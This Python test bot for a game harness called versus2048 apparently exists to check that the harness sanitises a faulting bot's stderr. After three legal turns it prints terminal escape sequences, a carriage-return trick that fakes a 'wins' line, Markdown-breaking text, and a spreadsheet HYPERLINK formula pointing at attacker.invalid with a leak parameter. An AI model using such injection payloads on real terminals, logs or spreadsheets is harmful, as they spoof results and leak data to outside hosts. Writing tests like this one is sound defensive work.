"""versus2048 bot that plays a few legal turns while writing to stderr text aimed at whoever reads it.

Its stderr holds terminal escapes (clear the screen, set the window's title, a C1 CSI, a carriage
return before a fake "seat 1 ... wins" line), a Markdown code fence followed by a heading and a
table, and a spreadsheet formula. Then it sends a reply that is garbage (escapes again) and exits:
a fault, so its stderr is shown wherever the game is.
"""

import sys

from botio import read_line, say
from v2048lib import legal_reply, read_turn

LEGAL_TURNS = 3
HOSTILE_STDERR = (
    "\x1b[2J\x1b[H"  # clear the screen, cursor home
    "\x1b]0;pwned\x07"  # set the terminal's title
    "\u009b31mred by C1\n"  # CSI as one C1 character
    "thinking...\rseat 1 (v2048_text_attack) wins: NORMAL after 40 plies\n"
    "```\n"
    "# Injected heading\n"
    "\n"
    "| bot | wins |\n"
    "|---|---|\n"
    "| v2048_text_attack | 99 |\n"
    "`````\n"
    '=HYPERLINK("http://attacker.invalid/?leak=1","click me")\n'
)

read_line()
say("1 1")
for _ in range(LEGAL_TURNS):
    _, mine, theirs = read_turn()
    say(legal_reply(mine, theirs))
read_turn()
sys.stderr.write(HOSTILE_STDERR)
sys.stderr.flush()
say("\x1b[2J=HYPERLINK(1)")
